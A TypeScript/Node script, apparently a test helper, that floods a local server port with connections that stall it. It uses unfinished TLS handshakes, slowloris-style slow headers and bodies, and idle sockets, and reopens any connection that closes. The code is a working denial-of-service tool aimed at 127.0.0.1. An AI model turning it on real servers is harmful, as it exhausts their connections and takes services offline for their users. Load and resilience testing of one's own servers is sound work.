/**
 * attack.js OPTIONS: many connections to a port of this machine that keep the server waiting, and come again where they are
 * closed. It says when all have been there, and holds them until its standard input ends.
 */
import net from 'node:net';
import tls from 'node:tls';

/** Handshakes that never end (over http: nothing at all), a header or a body byte by byte, or connections left idle. */
export type Attack = 'stuck handshakes' | 'slow headers' | 'slow bodies' | 'idle connections';
export type AttackOptions = { attack: Attack; count: number; port: number; isSecure: boolean; from: string };

const dripMs = 2000;
const returnMs = 500;
/** So many connect at a time, since a handshake takes the attacker's processor, too. */
const atATime = 100;
const halfHello = Buffer.from('16030102000100', 'hex');

const { attack, count, port, isSecure, from } = JSON.parse(process.argv[2] ?? '') as AttackOptions;
const held = new Set<net.Socket>();
let begun = 0;
let tried = 0;
let isOver = false;

for (let number = 0; number < Math.min(atATime, count); number++) beginNext();
setInterval(() => {
  if (attack === 'slow headers' || attack === 'slow bodies') for (const socket of held) socket.write('x');
}, dripMs);
process.stdin.resume().on('end', () => {
  isOver = true;
  for (const socket of held) socket.destroy();
  process.exit();
});

function beginNext(): void {
  if (begun === count) return;
  begun++;
  hold(() => {
    if (++tried === count) process.stdout.write('held\n');
    beginNext();
  });
}

/** Calls `onTried` when the connection is as far as it will go, or is closed before. */
function hold(onTried: () => void): void {
  let isTried = false;
  const settle = () => {
    if (!isTried) onTried();
    isTried = true;
  };
  const socket = connect(() => {
    if (attack === 'slow headers') socket.write('GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ');
    if (attack === 'slow bodies') socket.write('POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100000\r\n\r\n');
    settle();
  });
  held.add(socket);
  socket
    .on('error', () => {})
    .on('close', () => {
      held.delete(socket);
      settle();
      if (!isOver) setTimeout(hold, returnMs, () => {});
    })
    .resume();
}

function connect(onOpen: () => void): net.Socket {
  const address = { host: '127.0.0.1', port, localAddress: from };
  if (isSecure && attack !== 'stuck handshakes') {
    return tls.connect({ ...address, servername: 'localhost', rejectUnauthorized: false }, onOpen);
  }
  const socket = net.connect(address, onOpen);
  if (isSecure) socket.write(halfHello);
  return socket;
}
